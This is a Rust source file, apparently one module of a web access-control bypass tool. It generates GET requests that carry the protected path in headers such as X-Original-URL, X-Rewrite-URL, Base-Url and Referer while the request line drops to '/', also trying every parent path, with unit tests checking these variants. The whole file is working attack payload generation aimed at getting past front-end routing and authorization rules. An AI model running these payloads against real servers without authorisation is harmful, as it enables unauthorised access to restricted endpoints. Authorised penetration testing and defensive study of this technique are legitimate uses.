//! `headers_url`: carries path information in a header while the
//! request-target itself degrades to `/`, the way back-end routing
//! rules that trust `X-Original-URL`-style headers can be bypassed at
//! the fronting layer. Query is preserved in the request-target even
//! when the header value omits it.

use crate::payload::{BypassPayload, HeaderList};
use crate::url::RawUrl;

use super::common::{ancestor_paths, dedup_on_raw_uri, payload, with_query};

const URL_HEADERS: &[&str] = &[
    "X-Original-URL",
    "X-Rewrite-URL",
    "X-Forwarded-Request-Uri",
    "Base-Url",
    "Request-Uri",
    "X-Host",
    "Referer",
];

pub fn generate(url: &RawUrl) -> Vec<BypassPayload> {
    let mut out = Vec::new();
    let request_target = with_query(url, "/");

    for name in URL_HEADERS {
        let name_lower = name.to_ascii_lowercase();
        let targets_full_url = name_lower.contains("url") || name_lower.contains("request");

        // Base path.
        emit(&mut out, url, name, &url.raw_path, &request_target);

        // Full target URL, only for headers whose name suggests they carry one.
        if targets_full_url {
            let full = format!("{}://{}{}", url.scheme, url.host, url.raw_uri());
            emit(&mut out, url, name, &full, &request_target);
        }

        // Ascend parent paths.
        for ancestor in ancestor_paths(&url.raw_path) {
            emit(&mut out, url, name, &ancestor, &request_target);

            // "url"/"refer" headers also get the full scheme+host+parent URL.
            if name_lower.contains("url") || name_lower.contains("refer") {
                let full_ancestor = format!("{}://{}{}", url.scheme, url.host, ancestor);
                emit(&mut out, url, name, &full_ancestor, &request_target);
            }
        }
    }

    dedup_by_header_value_and_uri(out)
}

fn emit(out: &mut Vec<BypassPayload>, url: &RawUrl, name: &str, value: &str, request_target: &str) {
    let headers = HeaderList::new().with(name, value);
    out.push(payload(url, "GET", request_target.to_string(), headers, "headers_url"));
}

/// Dedup on `(header, value, rawURI)`.
fn dedup_by_header_value_and_uri(payloads: Vec<BypassPayload>) -> Vec<BypassPayload> {
    let mut seen = std::collections::HashSet::new();
    payloads
        .into_iter()
        .filter(|p| {
            let h = p.headers.iter().next();
            let key = (h.map(|h| h.name.clone()), h.map(|h| h.value.clone()), p.raw_uri.clone());
            seen.insert(key)
        })
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn base_path_variant_preserves_query_in_request_target_not_header() {
        let url = crate::url::parse("http://h/admin?x=1").unwrap();
        let payloads = generate(&url);
        let base = payloads
            .iter()
            .find(|p| p.headers.get("X-Original-URL") == Some("/admin"))
            .expect("base path variant present");
        assert_eq!(base.raw_uri, "/?x=1");
    }

    #[test]
    fn full_url_variant_only_for_url_request_named_headers() {
        let url = crate::url::parse("http://h/admin").unwrap();
        let payloads = generate(&url);
        assert!(payloads.iter().any(|p| p.headers.get("X-Original-URL") == Some("http://h/admin")));
        assert!(!payloads.iter().any(|p| p.headers.get("Referer") == Some("http://h/admin")));
    }

    #[test]
    fn referer_gets_full_ancestor_url() {
        let url = crate::url::parse("http://h/a/b/c").unwrap();
        let payloads = generate(&url);
        assert!(payloads.iter().any(|p| p.headers.get("Referer") == Some("http://h/a/b")));
    }

    #[test]
    fn ascends_all_parent_paths() {
        let url = crate::url::parse("http://h/a/b/c").unwrap();
        let payloads = generate(&url);
        assert!(payloads.iter().any(|p| p.headers.get("X-Host") == Some("/a/b")));
        assert!(payloads.iter().any(|p| p.headers.get("X-Host") == Some("/a")));
    }
}
